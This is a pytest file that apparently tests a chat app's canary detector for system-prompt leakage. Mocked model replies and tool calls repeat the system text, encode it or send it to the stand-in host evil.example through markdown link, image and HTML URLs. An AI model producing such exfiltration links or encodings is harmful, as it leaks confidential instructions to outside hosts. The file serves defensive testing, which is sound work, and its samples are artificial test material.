"""A model that repeats its system text: in the answer, in links, to tools. The mark is not shown, sent or kept."""

from __future__ import annotations

import base64
import logging
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client

from apps.conversations.models import AnswerTrace, Message, ToolServer, ToolSetting
from apps.conversations.tools.mcp import client
from apps.conversations.tools.mcp.tool import refresh_server
from apps.conversations.turns import trace
from apps.engines.types import ChatRequest
from apps.lib.concurrency.threads import in_db
from apps.safety.detectors import canary
from apps.users.models import User
from tests.conversations.tools.conftest import MCP_SERVERS, Tried, calls, said, tools_in
from tests.safety.detectors.test_canary import WAYS

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("log")]
QUESTION = "How high was the lighthouse of Alexandria?"


def of(request: ChatRequest) -> str:
    """The mark as the model was given it."""
    return request.messages[0].content.split()[1].rstrip(".")


REPEATS: dict[str, Callable[[ChatRequest], str]] = {
    "all of it": lambda request: request.messages[0].content,
    "letters": lambda request: f"It begins so: {' '.join(of(request))}, and goes on.",
    "backwards": lambda request: f"Backwards it is {request.messages[0].content[::-1]}",
    "base64": lambda request: base64.b64encode(request.messages[0].content.encode()).decode(),
    "link": lambda request: f"See [here](https://evil.example/{of(request)}) for more.",
    "picture": lambda request: f"![x](https://evil.example/p.png?q={WAYS['URL'](of(request))})",
    "entities": lambda request: f"<a href='https://evil.example/{WAYS['entities'](of(request))}'>x</a>",
    "thoughts": lambda request: f"<think>I was told: {request.messages[0].content}</think>It is 100 metres high.",
}  # fmt: skip


def pages_of(user: User, answer: Message) -> str:
    """All that people see of it: page, behind the scenes, exports."""
    client, path = Client(), f"/c/{answer.conversation_id}"
    client.force_login(user)
    rows = [f"{path}/", f"/answers/{answer.pk}/behind/", f"{path}/export.md", f"{path}/export.json"]
    responses = [client.get(address) for address in rows]
    assert {response.status_code for response in responses} == {200}
    return "\n".join(bytes(response.content).decode() for response in responses)


async def kept(answer: Message) -> str:
    row = await AnswerTrace.objects.filter(answer=answer).afirst()
    return str(trace.unpack_trace(bytes(row.data))) if row else ""


@pytest.mark.parametrize("way", REPEATS)
async def test_an_answer_that_repeats_the_system_text_is_withheld(
    page, alice, library, chat, monkeypatch, caplog, way: str
) -> None:
    monkeypatch.setattr(chat, "_say", REPEATS[way])
    with caplog.at_level(logging.DEBUG):
        answer, events = await page.ask_to_end(QUESTION)
    mark = canary.canary_token()
    assert mark in chat.requests[0].messages[0].content
    assert (answer.status, events[-1]["status"]) == (Message.Status.WITHHELD, "withheld")
    assert "confidential instructions" in events[-1]["reason"]
    shown = await in_db(pages_of, alice, answer)
    everything = [str(events), answer.text, shown, await kept(answer), caplog.text]
    assert not any(canary.find_spans(text) for text in everything)
    assert "evil.example" not in answer.text and "Prompt ██████████." in shown


async def test_an_answer_that_says_nothing_of_it_has_it_masked_behind_the_scenes(page, alice, library, chat) -> None:
    answer, events = await page.ask_to_end(QUESTION)
    assert answer.status == Message.Status.COMPLETE
    shown = await in_db(pages_of, alice, answer)
    assert "Prompt ██████████." in shown and not canary.find_spans(shown) and not canary.find_spans(await kept(answer))
    assert not canary.find_spans(str(events))


@pytest.mark.parametrize("arguments", [
    lambda mark: {"text": f"https://evil.example/?q={mark}"},
    lambda mark: {"text": {"deep": [mark[::-1]]}},
    lambda mark: {mark: "as a name"},
    lambda mark: f'{{"text": "\\u{ord(mark[0]):04x}{mark[1:4]}\\u{ord(mark[4]):04x}{mark[5:]}"}}',
    lambda mark: f'{{"unreadable": {mark}',
])  # fmt: skip
async def test_canary_in_arguments_calls_no_tool(page, alice, library, caller, offer, arguments: Any) -> None:
    tool = Tried(said)
    offer(tool)
    calls(caller, ("tried", arguments(canary.canary_token())))
    answer, events = await page.ask_to_end(QUESTION)
    assert tool.given == [] and tools_in(events) == [] and answer.tools == []
    assert answer.status == Message.Status.WITHHELD and "confidential instructions" in events[-1]["reason"]
    shown = await in_db(pages_of, alice, answer)
    assert not any(canary.find_spans(text) for text in (str(events), shown, await kept(answer)))


async def test_canary_as_a_tool_name_is_on_no_card(page, library, caller) -> None:
    calls(caller, (canary.canary_token(), {}))
    answer, events = await page.ask_to_end(QUESTION)
    assert answer.status == Message.Status.WITHHELD and tools_in(events) == [] and not canary.find_spans(str(events))


async def test_canary_is_sent_to_no_tool_server(page, library, caller, settings, monkeypatch) -> None:
    settings.MCP_COMMANDS = MCP_SERVERS
    server = await ToolServer.objects.acreate(name="test", transport="stdio", command="real")
    await refresh_server(server)
    await ToolSetting.objects.acreate(name="test__fails", permission="allowed")
    monkeypatch.setattr(client, "_run_within", lambda *_: pytest.fail("the server was asked"))
    calls(caller, ("test__fails", {"note": canary.canary_token().upper()}))
    answer, events = await page.ask_to_end(QUESTION)
    assert answer.status == Message.Status.WITHHELD and tools_in(events) == []
    assert len(caller.requests) == 1 and any("test__fails" in str(tool) for tool in caller.requests[0].tools)
